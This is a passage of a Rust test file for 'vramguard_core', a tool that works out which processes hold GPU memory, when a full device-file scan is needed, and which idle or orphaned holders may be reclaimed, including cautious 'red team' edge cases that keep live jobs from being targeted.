    assert_eq!(at[0].unaccounted_bytes, 0);
    assert_eq!(report(4 * GIB)[0].unaccounted_bytes, 0);
}

/// A healthy node read from its listed processes only (`status` before any full scan).
fn listed_only(gpus: Vec<GpuSample>, processes: Vec<ProcessFacts>) -> Snapshot {
    let mut s = snapshot(gpus, processes);
    s.scan.full_fd_scan = false;
    s.work = None;
    s
}

fn scan_need(s: &Snapshot) -> Option<vramguard_core::ScanNeed> {
    vramguard_core::full_scan_needed(s, &classify(s, &Policy::default()))
}

#[test]
fn listed_live_holders_that_explain_every_byte_need_no_full_scan() {
    use vramguard_core::ScanNeed;
    let healthy = || {
        listed_only(
            vec![gpu(
                0,
                24 * GIB,
                &[(100, Some(16 * GIB)), (101, Some(8 * GIB))],
            )],
            vec![
                init(),
                proc_(100, 50, 100, "python", &[0]),
                proc_(101, 100, 100, "python", &[0]),
            ],
        )
    };
    assert_eq!(scan_need(&healthy()), None);
    // A worker forked with the device files, unlisted, in the live job: it holds none of the
    // explained bytes, and nor would any other a full scan found.
    let mut s = healthy();
    s.processes
        .push(proc_(102, 100, 100, "pt_data_worker", &[0]));
    s.normalize();
    let r = classify(&s, &Policy::default());
    assert_eq!(
        r.gpus[0]
            .holders
            .iter()
            .find(|h| h.pid == 102)
            .unwrap()
            .class,
        Class::Hidden
    );
    assert_eq!(vramguard_core::full_scan_needed(&s, &r), None);
    // A listed pid whose files could not be read is not proven the holder (a full scan may
    // find the process inside a container the driver meant).
    let mut s = healthy();
    let i = s.processes.iter().position(|p| p.pid == 101).unwrap();
    s.processes[i].device_files = FdScan::Denied;
    assert_eq!(scan_need(&s), Some(ScanNeed::Unproven { pid: 101 }));
    // A listed compute holder without /dev/nvidia-uvm is an NVML client on a reused pid, not
    // the context's process (which may be dead, kept by workers a full scan would find).
    let mut s = healthy();
    let i = s.processes.iter().position(|p| p.pid == 101).unwrap();
    s.processes[i].device_files = FdScan::Scanned(vec![DeviceFile::Ctl, DeviceFile::Gpu(0)]);
    assert_eq!(scan_need(&s), Some(ScanNeed::Unproven { pid: 101 }));
    // Memory the driver reports as not available.
    let mut s = healthy();
    s.gpus[0].memory = None;
    assert_eq!(scan_need(&s), Some(ScanNeed::Unexplained { gpu: 0 }));
    // Holders in Kubernetes pods: a pod is named only when every holder of its GPU is known.
    let mut s = healthy();
    for p in s.processes.iter_mut().filter(|p| p.pid >= 100) {
        p.pod_uid = Some("5f8e1c9a-0000-4000-8000-000000000001".into());
    }
    assert_eq!(scan_need(&s), None, "no kubelet asked");
    s.kubelet_pods = Some(Vec::new());
    assert_eq!(scan_need(&s), Some(ScanNeed::PodNames));
    // A full scan is the whole truth already.
    let mut full = healthy();
    full.scan.full_fd_scan = true;
    full.gpus[0].memory.as_mut().unwrap().used += 6 * GIB;
    assert_eq!(scan_need(&full), None);

    // Not root, or not in the host's PID namespace: the listed pids may not be all.
    let mut s = healthy();
    s.host.euid = 1000;
    assert_eq!(scan_need(&s), Some(ScanNeed::PartialView));
    let mut s = healthy();
    s.host.pid_namespace_is_host = Some(false);
    assert_eq!(scan_need(&s), Some(ScanNeed::PartialView));

    // Memory the listed holders do not explain.
    let mut s = healthy();
    s.gpus[0].memory.as_mut().unwrap().used += 6 * GIB;
    assert_eq!(scan_need(&s), Some(ScanNeed::Unexplained { gpu: 0 }));

    // A process list that could not be read.
    let mut s = healthy();
    s.gpus[0].process_list = ProcessListState::Unavailable {
        error: CallError {
            call: "nvmlDeviceGetComputeRunningProcesses".into(),
            code: Some(999),
            message: "Unknown Error".into(),
        },
    };
    assert_eq!(scan_need(&s), Some(ScanNeed::GpuUnreadable { gpu: 0 }));

    // A holder whose job is gone: its kin may hold the device files too.
    let mut s = listed_only(
        vec![gpu(
            0,
            8 * GIB,
            &[(201, Some(4 * GIB)), (300, Some(4 * GIB))],
        )],
        vec![
            init(),
            proc_(201, 1, 200, "python", &[0]),
            proc_(300, 1, 300, "vllm", &[0]),
        ],
    );
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 200,
        comm: Some("python".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 5000,
    });
    assert!(
        matches!(
            scan_need(&s),
            Some(ScanNeed::Undecided { pid: 201, class }) if class != Class::Active
        ),
        "{:?}",
        scan_need(&s)
    );

    // A listed pid that is no process here (the dead creator the real driver keeps listing).
    let s = listed_only(
        vec![gpu(
            0,
            8 * GIB,
            &[(100, Some(4 * GIB)), (400, Some(4 * GIB))],
        )],
        vec![init(), proc_(100, 50, 100, "python", &[0])],
    );
    assert!(
        matches!(scan_need(&s), Some(ScanNeed::Undecided { pid: 400, .. })),
        "{:?}",
        scan_need(&s)
    );

    // A shared-memory segment: its users are every process's to tell.
    let mut s = healthy();
    s.host_memory = Some(vramguard_core::host::HostMemoryFacts {
        shm: vec![vramguard_core::host::ShmDirFacts {
            path: "/dev/shm".into(),
            segments: vec![Default::default()],
            ..Default::default()
        }],
        ..Default::default()
    });
    assert_eq!(scan_need(&s), Some(ScanNeed::SharedMemory { segments: 1 }));
}

#[test]
fn an_exited_host_pid_is_not_charged_to_a_container_process_listed_by_its_own_pid() {
    // Host pid 700 exited (the real driver keeps listing a dead creator); a container's
    // process has pid 700 inside its namespace, but the driver lists it as 5000, its pid here:
    // this driver numbers pids as the host does, so 700 is not that process.
    let mut container_init = proc_(4990, 1, 4990, "tini", &[]);
    container_init.nspid = vec![4990, 1];
    let mut inner = proc_(5000, 4990, 4990, "python", &[0]);
    inner.nspid = vec![5000, 700];
    let gpus = |listed: &[(u32, Option<u64>)]| vec![gpu(0, 8 * GIB, listed)];
    let s = snapshot(
        gpus(&[(700, Some(4 * GIB)), (5000, Some(4 * GIB))]),
        vec![init(), container_init.clone(), inner.clone()],
    );
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    let h700 = g
        .holders
        .iter()
        .find(|h| h.pid == 700)
        .expect("700 is its own holder");
    assert_eq!(h700.class, Class::Exited, "{h700:#?}");
    let h5000: Vec<_> = g.holders.iter().filter(|h| h.pid == 5000).collect();
    assert_eq!(h5000.len(), 1, "{g:#?}");
    assert_eq!(h5000[0].reported_pid, None);
    assert_eq!(h5000[0].used_bytes, Some(4 * GIB));

    // A driver that reports the pid inside the container (5000 not listed by its own pid):
    // 700 is that process.
    let s = snapshot(
        gpus(&[(700, Some(4 * GIB))]),
        vec![init(), container_init, inner],
    );
    let r = classify(&s, &Policy::default());
    let mapped = r.gpus[0].holders.iter().find(|h| h.pid == 5000).unwrap();
    assert_eq!(mapped.reported_pid, Some(700), "{mapped:#?}");
    assert_eq!(mapped.class, Class::Active);
}

fn default_targets(s: &Snapshot) -> Vec<u32> {
    let r = classify(s, &Policy::default());
    vramguard_core::plan::plan_reclaim(s, &r, &Default::default())
        .targets()
        .map(|t| t.pid)
        .collect()
}

/// Red team: on a GPU whose process list is unreliable (the 535.43–535.98 record mismatch:
/// implausible records dropped), a process that computes there may be among the dropped,
/// unlisted, its utilization unseen. Its work is unknown: no target, whether its job is gone
/// or lives beside an exited-looking pid.
#[test]
fn a_holder_of_a_gpu_whose_process_list_is_unreliable_has_unknown_work() {
    let unreliable = |s: &mut Snapshot| {
        s.gpus[0].process_list = ProcessListState::Unreliable {
            reason: "implausible records dropped".into(),
        };
    };
    // nohup'd by a script that exited: its job is gone, its CPU idle.
    let mut gone = snapshot(
        vec![gpu(0, 30 * GIB, &[])],
        vec![init(), proc_(576, 1, 436, "python3", &[0])],
    );
    assert_eq!(
        default_targets(&gone),
        vec![576],
        "read whole, it is a target"
    );
    unreliable(&mut gone);
    let h = holder_of(&gone, 576);
    assert!(
        matches!(&h.work, vramguard_core::report::Work::Unknown { why } if why.contains("unreliable")),
        "{h:#?}"
    );
    assert!(default_targets(&gone).is_empty());
    // In a live group, a pid that looks exited listed beside it.
    let mut live = snapshot(
        vec![gpu(0, 30 * GIB, &[(446, Some(GIB))])],
        vec![
            init(),
            proc_(436, 1, 436, "bash", &[]),
            proc_(576, 1, 436, "python3", &[0]),
        ],
    );
    unreliable(&mut live);
    let opts = vramguard_core::plan::ReclaimOptions {
        include_keepers: true,
        ..Default::default()
    };
    let r = classify(&live, &Policy::default());
    assert!(
        vramguard_core::plan::plan_reclaim(&live, &r, &opts).is_empty(),
        "not even with --include keepers"
    );
}

/// Red team: a trainer whose main thread called `pthread_exit` (`Z`, `PF_EXITING`) while its
/// other threads compute, read without its threads (`task` denied or raced), is not known to
/// have finished: it is no zombie to kill, and its idle child rank is of its live job, not an
/// orphan of a "gone" leader.
#[test]
fn a_leader_whose_threads_were_not_read_is_not_known_to_have_finished() {
    let mut trainer = proc_(300, 200, 300, "python3", &[0]);
    trainer.state = Some('Z');
    trainer.flags = Some(0x400000 | PF_EXITING);
    trainer.threads = None;
    let s = snapshot(
        vec![gpu(
            0,
            30 * GIB,
            &[(300, Some(20 * GIB)), (301, Some(10 * GIB))],
        )],
        vec![
            init(),
            proc_(200, 1, 200, "bash", &[]),
            trainer,
            proc_(301, 300, 300, "python3", &[0]),
        ],
    );
    let child = holder_of(&s, 301);
    assert_eq!(child.class, Class::Active, "{child:#?}");
    assert!(child.dead_job.is_none());
    let t = holder_of(&s, 300);
    assert_ne!(t.class, Class::Zombie, "{t:#?}");
    assert!(
        t.evidence
            .iter()
            .any(|e| e.contains("its other threads could not be read")),
        "{:?}",
        t.evidence
    );
    let opts = vramguard_core::plan::ReclaimOptions {
        include: [Class::Orphan, Class::Hidden, Class::Zombie]
            .into_iter()
            .collect(),
        ..Default::default()
    };
    let r = classify(&s, &Policy::default());
    assert!(vramguard_core::plan::plan_reclaim(&s, &r, &opts).is_empty());
}

/// Red team: a killed script's data server and trainer, each re-parented to init on its own,
/// are one job (their process group's, whose leader is gone): the trainer, idle while it
/// waits on the busy data server, is `detached`, not an orphan. With the data server idle too,
/// both are the dead job's idle orphans.
#[test]
fn a_dead_groups_members_under_other_tree_tops_count_for_its_work() {
    let server = proc_(310, 1, 200, "python3", &[]);
    let trainer = proc_(320, 1, 200, "python3", &[0]);
    let mut s = snapshot(
        vec![gpu(0, 10 * GIB, &[(320, Some(10 * GIB))])],
        vec![init(), server, trainer],
    );
    let idle = holder_of(&s, 320);
    assert_eq!(idle.class, Class::Orphan, "{idle:#?}");
    assert_eq!(default_targets(&s), vec![320]);
    let r = classify(&s, &Policy::default());
    assert!(
        vramguard_core::classify::work_watch_list(&s, &Policy::default(), &r, WatchFor::Reclaim)
            .contains(&310),
        "the other member is watched"
    );
    let w = s.work.as_mut().unwrap();
    let i = w.processes.iter().position(|p| p.pid == 310).unwrap();
    w.processes[i].cpu_ticks = 150;
    let h = holder_of(&s, 320);
    assert_eq!(h.class, Class::Detached, "{h:#?}");
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("310 (python3) of its job")),
        "{:?}",
        h.evidence
    );
    assert!(default_targets(&s).is_empty());
    // A member whose own walk finds a live parent belongs to that parent's job, not this one.
    let mut adopted = s.clone();
    adopted.processes.push(proc_(400, 1, 400, "bash", &[]));
    adopted
        .processes
        .iter_mut()
        .find(|p| p.pid == 310)
        .unwrap()
        .ppid = Some(400);
    adopted.normalize();
    let h = holder_of(&adopted, 320);
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
}
